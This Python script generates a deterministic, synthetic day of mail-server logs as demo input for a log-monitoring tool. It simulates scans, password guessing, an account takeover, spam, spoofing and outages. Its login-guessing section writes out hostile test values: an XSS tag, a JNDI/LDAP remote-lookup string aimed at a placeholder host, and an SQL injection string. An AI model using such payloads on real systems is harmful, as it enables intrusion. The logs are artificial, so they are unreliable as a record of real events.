"""In: nothing. Out: bad-day.log on stdout: 24 hours of a small company's mail host on which much goes wrong. `mailvigil demo` shows what it finds in it.

Run `python deploy/demo/generate.py > deploy/demo/bad-day.log` after a change. Documentation addresses and example domains only; the same output every time.
"""

from __future__ import annotations

import sys
from itertools import cycle

from mailhost import ANCIENT, MODERN, OLDER, MailHost, Peer

SEED = 20261124
NAMES = "alice bob carol dave erin frank grace heidi ivan judy mallory niaj olivia peggy rupert sybil trent victor wendy zoe"
USERS = [f"{name}@example.org" for name in NAMES.split()]
HOMES = {user: f"198.51.100.{140 + number}" for number, user in enumerate(USERS)}
PHONES = {user: f"2001:db8:{77 + number:x}:1::{0xA0 + number:x}" for number, user in enumerate(USERS)}
OFFICE = "198.51.100.20"
PRINTER = "printer.example.org[198.51.100.21]"
MONITOR = "monitor.example.org[192.0.2.30]"
THIEF = "203.0.113.77"

PEERS = [
    Peer("mx.example.com", "192.0.2.50", "example.com"),
    Peer("mx.example.net", "192.0.2.60", "example.net"),
    Peer("mail.partner.example", "192.0.2.77", "partner.example"),
    Peer("smtp.supplier.example", "192.0.2.88", "supplier.example"),
    Peer("mx1.newsletter.example", "198.51.100.60", "newsletter.example"),
    Peer("out.shop.example", "198.51.100.66", "shop.example"),
    Peer("mx.university.example", "198.51.100.70", "university.example"),
]
LIST = [PEERS[0], PEERS[1], Peer("mx.mailbox.example", "192.0.2.101", "mailbox.example"), Peer("mx.webmail.example", "192.0.2.102", "webmail.example"),
        Peer("mx.freemail.example", "192.0.2.103", "freemail.example"), Peer("mx.letters.example", "192.0.2.104", "letters.example")]  # fmt: skip
CORRESPONDENTS = ["anna", "ben", "chris", "dora", "emil", "fiona", "georg", "hanna"]


def at(clock: str) -> float:
    """Return the second of the day of ``hh:mm:ss``."""
    hours, minutes, seconds = clock.split(":")
    return 3600 * int(hours) + 60 * int(minutes) + float(seconds)


def ordinary_day(host: MailHost) -> None:
    """Mail comes and goes, people read it, the monitoring looks, strangers are turned away."""
    for moment in host.moments(250):
        peer = host.pick(PEERS)
        host.inbound(moment, peer, f"{host.pick(CORRESPONDENTS)}@{peer.domain}", host.pick(USERS))
    for moment in host.moments(620):
        user = host.pick(USERS)
        roams = host.chance()
        place = OFFICE if 8 * 3600 < moment < 18 * 3600 and roams < 0.6 else PHONES[user] if roams < 0.85 else HOMES[user]
        host.login(moment, user, place, "pop3" if host.chance() < 0.1 else "imap", f"TLS, {MODERN if host.chance() < 0.86 else OLDER}, ")
    for moment in host.moments(90):
        user, peer = host.pick(USERS), host.pick(PEERS[:4])
        qid = host.submitted(moment, user, f"unknown[{OFFICE if 8 * 3600 < moment < 18 * 3600 else HOMES[user]}]", 1)
        host.delivered(moment + 1, qid, f"{host.pick(CORRESPONDENTS)}@{peer.domain}", peer)
    for _, moment in host.every(17, 600, 144):
        program = f"postfix/smtpd[{host.process(moment)}]"
        host.say(moment, program, f"connect from {MONITOR}")
        host.say(moment + 0.1, program, f"disconnect from {MONITOR} ehlo=1 quit=1 commands=2")
    for number, moment in host.every(at("00:07:00"), 1290, 66):
        stranger = f"203.0.113.{128 + 7 * number % 64}"
        host.screened(moment, stranger, "DNSBL rank 4 for")
        tail = f"from=<offer@bulk.example>, to=<{host.pick(USERS)}>, proto=ESMTP, helo=<bulk{number}.example>"
        said = f"550 5.7.1 Service unavailable; client [{stranger}] blocked using dnsbl.example"
        host.say(moment + 4, "postfix/postscreen[811]", f"NOQUEUE: reject: RCPT from [{stranger}]:{host.port()}: {said}; {tail}")
        host.say(moment + 4.1, "postfix/postscreen[811]", f"DISCONNECT [{stranger}]:{host.port()}")
    for moment in (at("09:04:10"), at("09:04:31")):
        host.refused(moment, "erin@example.org", OFFICE)
    for number, moment in host.every(at("00:20:00"), 2400, 35):  # slower than any limit within an hour
        host.refused(moment, USERS[number % 3], "203.0.113.40", service="pop3")


def scanner(host: MailHost) -> None:
    """01:47: one address tries every port, then whether we relay; another one guesses recipients."""
    begin, address = at("01:47:10"), "203.0.113.66"
    client = f"unknown[{address}]"
    for _, moment in host.every(begin, 11, 5):
        port = host.port()
        host.say(moment, "postfix/postscreen[811]", f"CONNECT from [{address}]:{port} to [192.0.2.1]:25")
        host.say(moment + 0.1, "postfix/postscreen[811]", f"PREGREET 14 after 0.09 from [{address}]:{port}: EHLO scanner\\r\\n")
        host.say(moment + 6.2, "postfix/postscreen[811]", f"HANGUP after 6.1 from [{address}]:{port} in tests after SMTP handshake")
        host.say(moment + 6.3, "postfix/postscreen[811]", f"DISCONNECT [{address}]:{port}")
    for service, moment in zip(cycle(("imap", "pop3", "managesieve")), (begin + 60 + 3 * number for number in range(9)), strict=False):
        tail = f"user=<>, rip={address}, lip=192.0.2.1, session=<{host.session(moment, address)}>"
        host.say(moment, "dovecot", f"{service}-login: Disconnected: Connection closed (no auth attempts in 0 secs): {tail}")
    for number, moment in host.every(begin + 95, 9, 24):
        program = f"postfix/smtps/smtpd[{host.process(moment)}]"
        cause = ("0A0000C1:SSL routines::no shared cipher", "0A000102:SSL routines::unsupported protocol")[number % 2]
        host.say(moment, program, f"connect from {client}")
        host.say(moment + 0.1, program, f"SSL_accept error from {client}: -1")
        host.say(moment + 0.11, program, f"warning: TLS library problem: error:{cause}:../ssl/statem/statem_srvr.c:2220:")
        host.say(moment + 0.12, program, f"lost connection after CONNECT from {client}")
        host.say(moment + 0.13, program, f"disconnect from {client} commands=0/0")
    for number, moment in host.every(begin + 330, 12, 4):
        host.rejected(moment, client, f"554 5.7.1 <probe{number}@example.com>: Relay access denied", f"probe{number}@example.com", "probe@scan.example", "scan")
    moment, program = begin + 400, f"postfix/submission/smtpd[{host.process(begin + 400)}]"
    host.say(moment, program, f"connect from {client}")
    host.say(moment + 0.2, program, f"warning: non-SMTP command from {client}: GET / HTTP/1.1")
    host.say(moment + 0.3, program, f"disconnect from {client} unknown=0/1 commands=0/1")
    for number, name in enumerate(["admin", "info", "sales", "office", "test", "root", "backup", "shop", "service", "hr", "press", "it", "jobs", "scan"]):
        text = f"550 5.1.1 <{name}@example.org>: Recipient address rejected: User unknown in virtual mailbox table"
        host.rejected(at("02:22:30") + 9 * number, "unknown[203.0.113.67]", text, f"{name}@example.org")


def guessers(host: MailHost) -> None:
    """03:40 to 06:31: one address at one account, one at many, many at one; hostile names; and at last somebody gets in."""
    for _, moment in host.every(at("03:40:00"), 21, 48):
        host.refused(moment, "bob@example.org", "203.0.113.9")
    for user, (_, moment) in zip(USERS[::-1], host.every(at("04:20:00"), 110, 14), strict=False):
        host.refused(moment, user, "203.0.113.31")
    for number, moment in host.every(at("05:02:00"), 132, 22):
        client = f"unknown[203.0.113.{100 + number}]"
        program = f"postfix/submission/smtpd[{host.process(moment)}]"
        host.say(moment, program, f"connect from {client}")
        host.say(moment + 2, program, f"warning: {client}: SASL LOGIN authentication failed: UGFzc3dvcmQ6, sasl_username=peggy@example.org")
        host.say(moment + 2.2, program, f"disconnect from {client} ehlo=2 starttls=1 auth=0/1 quit=1 commands=4/5")
    for number, name in enumerate(("<script>alert(1)</script>", "${jndi:ldap://203.0.113.12/a}", "' OR '1'='1", "\u202egro.elpmaxe@toor")):
        host.refused(at("05:58:00") + 31 * number, name, "203.0.113.12")
    for _, moment in host.every(at("06:31:00"), 38, 7):
        host.refused(moment, "carol@example.org", THIEF)


def takeover(host: MailHost) -> None:
    """06:37: carol's account is somebody else's: a forward is left behind, then hundreds of strangers get mail until an admin ends it."""
    host.login(at("06:37:04"), "carol@example.org", THIEF)
    host.login(at("06:38:20"), "carol@example.org", THIEF, "managesieve")
    for number, moment in host.every(at("06:41:00"), 420, 6):
        peer = PEERS[number % len(PEERS)]
        host.inbound(moment, peer, f"{host.pick(CORRESPONDENTS)}@{peer.domain}", "carol@example.org", redirect="collect@drop.example")
    for number, moment in host.every(at("06:52:00"), 62, 24):
        qid = host.submitted(moment, "carol@example.org", f"unknown[{THIEF}]", 20)
        refused = [mass_mail(host, moment + 1 + 0.2 * one, qid, f"{host.pick(CORRESPONDENTS)}{20 * number + one}", one) for one in range(20)]
        if any(refused):
            host.say(moment + 6, f"postfix/bounce[{host.process(moment + 6)}]", f"{qid}: sender non-delivery notification: {host.queue_id(moment + 6)}")
    host.say(at("07:21:40"), "postfix/postsuper[20711]", "Placed on hold: 19 messages")
    host.say(at("07:24:12"), "postfix/postsuper[20793]", "Deleted: 19 messages")
    for _, moment in host.every(at("07:26:00"), 44, 30):  # the password is new, the other side's program does not know
        host.refused(moment, "carol@example.org", THIEF)


def mass_mail(host: MailHost, moment: float, qid: str, name: str, one: int) -> bool:
    """Try one recipient; say whether it bounced. Two of six servers slow us down, later two others refuse us for our reputation."""
    peer = LIST[one % 6]
    address, says = f"{name}@{peer.domain}", f"host {peer.name}[{peer.address}] said:"
    if one % 6 < 2:
        text = f"{says} 421 4.7.28 Our system has detected an unusual rate of unsolicited mail from 192.0.2.1 (in reply to end of DATA command)"
        host.attempt(moment, qid, address, peer, "deferred", "4.7.28", text)
    elif one % 6 < 4 and moment > at("07:02:00"):
        text = f"{says} 554 5.7.1 Service unavailable; Client host [192.0.2.1] blocked using reputation.dnsbl.example (in reply to RCPT TO command)"
        host.attempt(moment, qid, address, peer, "bounced", "5.7.1", text)
        return True
    elif one % 6 == 5:
        host.attempt(moment, qid, address, peer, "bounced", "5.1.1", f"{says} 550 5.1.1 <{address}>: Recipient address rejected: User unknown (in reply to RCPT TO command)")
        return True
    else:
        host.attempt(moment, qid, address, peer, "sent", "2.0.0", "250 2.0.0 Ok: queued as 4C81A2D07")
    return False


def expired(host: MailHost) -> None:
    """08:00: our certificate ends, and nobody had renewed it; clients leave until somebody does at 08:52."""
    error = "error:0A000415:SSL routines::sslv3 alert certificate expired"
    for number, moment in host.every(at("08:00:40"), 47, 64):
        user = USERS[number % 20]
        address = PHONES["heidi@example.org"] if number % 8 == 0 else HOMES[user] if number // 20 % 2 else PHONES[user]
        if number % 9:
            host.handshake_refused(moment, address, f"{error}: SSL alert number 45", "imap" if number % 5 else "pop3")
            continue
        program = f"postfix/submission/smtpd[{host.process(moment)}]"
        host.say(moment, program, f"connect from unknown[{address}]")
        host.say(moment + 0.2, program, f"SSL_accept error from unknown[{address}]: -1")
        host.say(moment + 0.21, program, f"warning: TLS library problem: {error}:../ssl/record/rec_layer_s3.c:1586:SSL alert number 45:")
        host.say(moment + 0.22, program, f"lost connection after STARTTLS from unknown[{address}]")
        host.say(moment + 0.23, program, f"disconnect from unknown[{address}] ehlo=1 starttls=0/1 commands=1/2")
    host.say(at("08:52:30"), "postfix/postfix-script[24011]", "refreshing the Postfix mail system")
    host.say(at("08:52:31"), "postfix/master[398]", "reload -- version 3.7.11, configuration /etc/postfix")
    host.say(at("08:52:40"), "dovecot", "master: Warning: SIGHUP received - reloading configuration")


def partners(host: MailHost) -> None:
    """10:15: on the way out: a wrong name, no TLS where there was some, keys that do not match TLSA, handshakes that fail; an old printer; a hotel without TLS."""
    partner, supplier = PEERS[2], PEERS[3]
    registry, museum = Peer("mx.registry.example", "192.0.2.120", "registry.example"), Peer("mail.museum.example", "192.0.2.121", "museum.example")
    for number, moment in host.every(at("10:15:00"), 720, 4):
        program = f"postfix/smtp[{host.process(moment)}]"
        qid = host.submitted(moment, "alice@example.org", f"unknown[{OFFICE}]", 1)
        host.say(moment + 1, program, f"server certificate verification failed for {partner.relay}: num=62:hostname mismatch")
        host.attempt(moment + 1.1, qid, "office@partner.example", partner, "deferred", "4.7.5", "Server certificate not verified")
        qid = host.submitted(moment + 90, "dave@example.org", f"unknown[{OFFICE}]", 1)
        text = f"TLS is required, but was not offered by host {supplier.name}[{supplier.address}]"
        host.attempt(moment + 91, qid, "orders@supplier.example", supplier, "deferred", "4.7.4", text)
        host.say(moment + 200, program, f"SSL_connect error to {museum.relay}: lost connection")
        host.say(moment + 320, program, f"SSL_connect error to {museum.relay}: Connection reset by peer")
        if number % 2:
            host.say(moment + 400, program, f"server certificate verification failed for {registry.relay}: num=65:no matching DANE TLSA records")
            host.say(moment + 900, program, f"server certificate verification failed for {registry.relay}: num=65:no matching DANE TLSA records")
    for number, moment in host.every(at("11:45:00"), 3100, 5):
        qid = host.submitted(moment, "printer@example.org", PRINTER, 1, ANCIENT)
        host.delivered(moment + 1, qid, f"anna@{PEERS[number % 2].domain}", PEERS[number % 2])
    host.login(at("12:20:15"), "frank@example.org", "203.0.113.150", tls="")


def breakdowns(host: MailHost) -> None:
    """13:10 the accounts' database is away; 15:30 a web shell sends; 17:20 somebody sends as us; 19:05 crashes; 21:41 a restart that takes too long."""
    for number, moment in host.every(at("13:10:00"), 19, 12):
        user = USERS[number]
        session = host.session(moment, OFFICE)
        host.say(moment, "dovecot", f"auth-worker(31207): Error: sql({user},{OFFICE},<{session}>): Password query failed: Not connected to database")
        tail = f"user=<{user}>, method=PLAIN, rip={OFFICE}, lip=192.0.2.1, TLS: Connection closed, session=<{session}>"
        host.say(moment + 2, "dovecot", f"imap-login: Disconnected: Connection closed (auth service reported temporary failure): {tail}")
    for number, moment in host.every(at("15:30:00"), 8, 66):
        peer = LIST[number % 6]
        host.delivered(moment + 1, host.local(moment, "www-data", 33), f"{host.pick(CORRESPONDENTS)}{number}@{peer.domain}", peer)
    for number, moment in host.every(at("17:20:00"), 48, 14):
        spoofed(host, moment, f"203.0.113.{200 + number % 2}", USERS[number])
    for _, moment in host.every(at("19:05:00"), 97, 4):
        host.say(moment, "dovecot", f"imap-login: Fatal: master: service(imap-login): child {host.process(moment)} killed with signal 11 (core dumped) [last ip=203.0.113.12]")
    oddities(host)
    host.say(at("21:41:02"), "postfix/postfix-script[58012]", "stopping the Postfix mail system")
    host.say(at("21:41:02.1"), "postfix/master[398]", "terminating on signal 15")
    host.say(at("21:41:03"), "dovecot", "master: Warning: Killed with signal 15 (by pid=1 uid=0 code=kill)")
    host.say(at("22:03:20"), "postfix/postfix-script[702]", "starting the Postfix mail system")
    host.say(at("22:03:21"), "postfix/master[398]", "daemon started -- version 3.7.11, configuration /etc/postfix")
    host.say(at("22:03:22"), "dovecot", "master: Dovecot v2.3.19.1 (9b53102964) starting up for imap, pop3, lmtp, sieve")
    host.silent(at("21:41:04"), at("22:03:19"))


def spoofed(host: MailHost, moment: float, address: str, recipient: str) -> None:
    """Somebody writes in our name; SPF and DMARC see it, the filter refuses."""
    client, program, qid = f"unknown[{address}]", f"postfix/smtpd[{host.process(moment)}]", host.queue_id(moment)
    host.screened(moment, address, "PASS NEW")
    host.say(moment + 0.1, program, f"connect from {client}")
    host.say(moment + 0.2, program, f"{qid}: client={client}")
    host.say(moment + 0.3, "opendkim[166]", f"{qid}: no signature data")
    host.say(moment + 0.4, "opendmarc[171]", f"{qid}: SPF(mailfrom): example.org fail")
    host.say(moment + 0.5, "opendmarc[171]", f"{qid}: example.org fail")
    said = f"milter-reject: END-OF-MESSAGE from {client}: 5.7.1 rejected by DMARC policy for example.org"
    host.say(moment + 0.6, f"postfix/cleanup[{host.process(moment)}]", f"{qid}: {said}; from=<director@example.org> to=<{recipient}> proto=ESMTP helo=<pc>")
    host.say(moment + 0.7, program, f"disconnect from {client} ehlo=1 mail=1 rcpt=1 data=0/1 quit=1 commands=4/5")


def oddities(host: MailHost) -> None:
    """Lines that no parser knows, and lines that are nobody's business."""
    host.say(at("14:02:11"), "postfix/smtpd[35117]", "local patch: quota hint 0x1f for session 35117")
    host.say(at("16:44:09"), "dovecot", "fts-flatten(31): index rotation postponed, 3 segments left")
    host.say(at("18:12:47"), "amavis[2991]", "(02991-07) Checking: xPq0 MYNETS [192.0.2.30] <cron@example.org> -> <alice@example.org>")
    for hour in range(0, 24, 6):
        host.say(at(f"{hour:02d}:25:01"), f"CRON[{host.process(at(f'{hour:02d}:25:01'))}]", "(root) CMD (test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily)")


def main() -> None:
    """Print the day."""
    host = MailHost(SEED)
    for part in (ordinary_day, scanner, guessers, takeover, expired, partners, breakdowns):
        part(host)
    sys.stdout.buffer.writelines(line.encode() for line in host.lines())


if __name__ == "__main__":
    main()
